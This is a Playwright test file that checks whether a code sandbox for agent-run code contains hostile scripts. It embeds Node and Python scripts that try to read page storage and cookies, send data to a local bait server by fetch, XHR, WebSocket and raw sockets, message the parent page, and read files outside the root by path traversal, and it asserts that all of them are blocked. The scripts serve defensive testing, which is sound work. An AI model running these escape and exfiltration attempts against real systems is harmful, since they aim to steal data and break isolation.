// Code the agent runs is untrusted (issue 22): scripts in both languages try every way out of
// the sandbox — this origin's storage, the network (a local bait server), the page — and every
// attempt fails, the bait server hears nothing, and the page's stores are as they were.
import type { Page } from '@playwright/test'
import { test, expect } from '../support/fixtures.ts'
import { openDemo } from '../support/app.ts'
import { runCommand, writeWorkspaceFiles } from '../support/run-code.ts'
import { startBait } from '../support/bait.ts'

test.setTimeout(120_000)

/** What a person's page holds: a value in localStorage and one in an IndexedDB database of its own. */
async function plantSentinels(page: Page): Promise<void> {
  await page.evaluate(async () => {
    localStorage.setItem('fx-sentinel', 'kept')
    await new Promise<void>((resolve, reject) => {
      const open = indexedDB.open('fx-sentinel', 1)
      open.onupgradeneeded = () => open.result.createObjectStore('kv')
      open.onsuccess = () => {
        const tx = open.result.transaction('kv', 'readwrite')
        tx.objectStore('kv').put('kept', 'value')
        tx.oncomplete = () => (open.result.close(), resolve())
        tx.onerror = () => reject(tx.error)
      }
      open.onerror = () => reject(open.error)
    })
  })
}

/** The page's storage as the sandbox could have changed it. */
async function storesNow(page: Page): Promise<unknown> {
  return page.evaluate(async () => {
    const value = await new Promise((resolve) => {
      const open = indexedDB.open('fx-sentinel')
      open.onsuccess = () => {
        const get = open.result.transaction('kv').objectStore('kv').get('value')
        get.onsuccess = () => (open.result.close(), resolve(get.result))
      }
    })
    const databases = (await indexedDB.databases()).map((db) => db.name).sort()
    return { local: { ...localStorage }, value, databases, cookie: document.cookie }
  })
}

/** Each attempt prints `BLOCKED name` or `LEAK name: what it got`. */
const NODE_ATTACKS = `
import fs from 'node:fs'
const bait = process.env.BAIT
const wsBait = bait.replace('http', 'ws')
const attempts = {
  indexedDB: () => new Promise((resolve, reject) => { const open = indexedDB.open('fx-sentinel'); open.onsuccess = () => resolve('opened'); open.onerror = () => reject(open.error) }),
  localStorage: () => localStorage.getItem('fx-sentinel'),
  cookie: () => document.cookie,
  opfs: () => navigator.storage.getDirectory(),
  caches: () => caches.keys(),
  fetch: () => fetch(bait + '/fetch').then((r) => r.text()),
  fetchNoCors: () => fetch(bait + '/no-cors', { mode: 'no-cors' }).then((r) => r.type),
  // The run's fetch only says why; the browser's own, under it, meets the CSP.
  // (Resolving, as a LEAK, if there were no such fetch to try: the attempt must be a real one.)
  browserFetch: () => { const real = Object.getPrototypeOf(globalThis).fetch; return typeof real === 'function' ? real.call(globalThis, bait + '/browser-fetch').then((r) => r.text()) : 'no browser fetch found' },
  xhr: () => new Promise((resolve, reject) => { const x = new XMLHttpRequest(); x.open('GET', bait + '/xhr'); x.onload = () => resolve(x.responseText); x.onerror = () => reject(new Error('xhr failed')); x.send() }),
  webSocket: () => new Promise((resolve, reject) => { const w = new WebSocket(wsBait + '/ws'); w.onopen = () => resolve('open'); w.onerror = () => reject(new Error('websocket failed')) }),
  eventSource: () => new Promise((resolve, reject) => { const e = new EventSource(bait + '/sse'); e.onopen = () => resolve('open'); e.onerror = () => (e.close(), reject(new Error('eventsource failed'))) }),
  importScripts: () => importScripts(bait + '/script.js'),
  dynamicImport: () => import(bait + '/module.js'),
  nestedWorkerFetch: () => new Promise((resolve, reject) => { const w = new Worker(URL.createObjectURL(new Blob(['fetch(' + JSON.stringify(bait + '/nested') + ').then(() => postMessage("fetched"), (e) => postMessage("blocked"))']))); w.onmessage = (m) => (m.data === 'fetched' ? resolve(m.data) : reject(new Error(m.data))) }),
  img: () => { const img = new Image(); img.src = bait + '/img'; return 'image created' },
  parentPostMessage: () => parent.postMessage({ type: 'fx-sandbox-ready' }, '*'),
  topPostMessage: () => top.postMessage('steal', '*'),
  readOutsideRoot: () => fs.readFileSync('/home/user/planted.txt', 'utf8'),
  readDotDot: () => fs.readFileSync('../home/user/planted.txt', 'utf8'),
}
for (const [name, attempt] of Object.entries(attempts)) {
  try {
    const got = await attempt()
    console.log('LEAK ' + name + ': ' + String(got))
  } catch {
    console.log('BLOCKED ' + name)
  }
}
`

const PYTHON_ATTACKS = `
import os, sys
bait = os.environ["BAIT"]
def attempts():
    import js
    yield "indexedDB", lambda: js.indexedDB.open("fx-sentinel")
    yield "localStorage", lambda: js.localStorage.getItem("fx-sentinel")
    yield "cookie", lambda: js.document.cookie
    yield "syncXhr", lambda: stolen(sync_xhr(js, bait + "/xhr"))
    yield "openUrl", lambda: stolen(__import__("pyodide.http", fromlist=["open_url"]).open_url(bait + "/open-url").read())
    yield "urllib", lambda: stolen(__import__("urllib.request", fromlist=["urlopen"]).urlopen(bait + "/urllib").read())
    yield "socket", lambda: stolen(socket_get(bait))
    # Under the socket module's connect (which only says why): the interpreter's own, and the CSP.
    yield "rawSocket", lambda: stolen(raw_socket_get(bait))
    yield "importScripts", lambda: js.importScripts(bait + "/script.js")
    yield "parentPostMessage", lambda: js.parent.postMessage("steal", "*")
    yield "topPostMessage", lambda: js.top.postMessage("steal", "*")
    yield "readOutsideRoot", lambda: open("/home/user/planted.txt").read()
    yield "readDotDot", lambda: open("../home/user/planted.txt").read()
# A network attempt counts as a leak only when the bait's answer came back.
def stolen(answer):
    if "stolen" not in str(answer):
        raise RuntimeError("no answer from the bait: " + repr(answer)[:80])
    return answer
def socket_get(url):
    import socket
    sock = socket.create_connection(("127.0.0.1", int(url.rsplit(":", 1)[1])), timeout=1)
    sock.sendall(b"GET /socket HTTP/1.0\\r\\n\\r\\n")
    return sock.recv(200)
def raw_socket_get(url):
    import _socket
    sock = _socket.socket(_socket.AF_INET, _socket.SOCK_STREAM)
    sock.settimeout(1)
    sock.connect(("127.0.0.1", int(url.rsplit(":", 1)[1])))
    sock.sendall(b"GET /raw-socket HTTP/1.0\\r\\n\\r\\n")
    return sock.recv(200)
def sync_xhr(js, url):
    x = js.XMLHttpRequest.new()
    x.open("GET", url, False)
    x.send()
    return x.responseText
for name, attempt in attempts():
    try:
        print("LEAK " + name + ": " + str(attempt()))
    except BaseException:
        print("BLOCKED " + name)
# Asynchronous ones: start them; the bait server must still hear nothing.
import js
for start in (lambda: js.fetch(bait + "/py-fetch"), lambda: js.WebSocket.new(bait.replace("http", "ws") + "/py-ws")):
    try:
        start()
    except BaseException:
        pass
print("started async attempts")
# Writing outside the root changes, at most, the sandbox's own copy.
try:
    open("/home/user/planted.txt", "w").write("overwritten")
except BaseException:
    pass
`

function verdicts(stdout: string): { blocked: string[]; leaks: string[] } {
  const lines = stdout.split('\n')
  return { blocked: lines.filter((line) => line.startsWith('BLOCKED ')), leaks: lines.filter((line) => line.startsWith('LEAK ')) }
}

test('hostile node and python3 scripts reach no storage, no network, no page and no file outside the root', async ({ page }) => {
  const bait = await startBait()
  try {
    await openDemo(page)
    await plantSentinels(page)
    const before = await storesNow(page)
    await runCommand(page, 'echo "secret of the shell" > /home/user/planted.txt')
    await writeWorkspaceFiles(page, { 'attack.mjs': NODE_ATTACKS, 'attack.py': PYTHON_ATTACKS })

    const node = await runCommand(page, `BAIT=${bait.url} node attack.mjs`)
    const fromNode = verdicts(node.stdout)
    expect(fromNode.leaks).toEqual([])
    expect(fromNode.blocked).toHaveLength(19)

    const python = await runCommand(page, `BAIT=${bait.url} python3 attack.py`)
    const fromPython = verdicts(python.stdout)
    expect(fromPython.leaks).toEqual([])
    expect(fromPython.blocked).toHaveLength(13)
    expect(python.stdout).toContain('started async attempts')

    await runCommand(page, `node -e 'require("fs").writeFileSync("/home/user/planted.txt", "overwritten")'`)
    // Give any request that slipped out every chance to arrive: one more round trip through the
    // sandbox, then the bait server's log.
    expect(await runCommand(page, `node -e 'setTimeout(() => console.log("settled"), 200)'`)).toMatchObject({ stdout: 'settled\n' })
    expect(bait.hits).toEqual([])
    expect(await storesNow(page)).toEqual(before)
    expect((await runCommand(page, 'cat /home/user/planted.txt')).stdout).toBe('secret of the shell\n')
  } finally {
    await bait.close()
  }
})
